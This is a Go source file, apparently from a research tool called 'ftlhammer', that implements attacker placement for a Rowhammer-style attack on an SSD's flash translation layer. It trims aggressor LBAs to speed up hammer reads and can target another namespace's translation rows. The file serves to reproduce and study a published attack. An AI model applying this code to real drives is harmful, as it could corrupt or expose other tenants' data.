package attack

import (
	"ftlhammer/internal/ftl"
	"ftlhammer/internal/nvme"
)

// Allocator places attacker state over the FTL and derives hammerable
// bindings. Implementations differ in *placement*: where the attacker's
// populated and trimmed LBAs end up, and therefore which L2P rows it
// can drive fast. sides is the pattern's requested sidedness (extra
// sides bind same-bank far rows).
type Allocator interface {
	Allocate(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, sides int) ([]Binding, error)
}

// PinAndTrim returns a copy of b whose sides each keep only their first
// LBA, and trims those LBAs, so every hammer read takes the fast,
// flash-skipping trimmed path — the acceleration the §3 threat model
// calls out. The copy owns a fresh Sides slice, so b is left untouched.
func PinAndTrim(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, b Binding) (Binding, error) {
	sides := make([][]ftl.LBA, len(b.Sides))
	for s, group := range b.Sides {
		sides[s] = group[:1]
		if err := dev.Trim(ns, group[0], path); err != nil {
			return b, err
		}
	}
	b.Sides = sides
	return b, nil
}

// ContiguousAllocator is the paper's placement: the linear L2P layout
// already maps a contiguous LBA range onto consecutive DRAM lines, so
// analysis alone yields bindings; the aggressor LBAs are then trimmed
// for interface-speed reads.
type ContiguousAllocator struct {
	// MaxBindings bounds the result (0: all).
	MaxBindings int
	// VictimNSID, when non-zero, binds cross-partition triples whose
	// victim rows hold that namespace's translations (§4.2); zero binds
	// triples within the attacker's own partition (Figure 1).
	VictimNSID int
}

// Allocate analyzes the layout and readies the fast-read path.
func (a *ContiguousAllocator) Allocate(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, sides int) ([]Binding, error) {
	bindings, err := Analyze(dev, ns, AnalyzeOptions{VictimNSID: a.VictimNSID, Sides: sides})
	if err != nil {
		return nil, err
	}
	if a.MaxBindings > 0 && len(bindings) > a.MaxBindings {
		bindings = bindings[:a.MaxBindings]
	}
	for i := range bindings {
		if bindings[i], err = PinAndTrim(dev, ns, path, bindings[i]); err != nil {
			return nil, err
		}
	}
	return bindings, nil
}
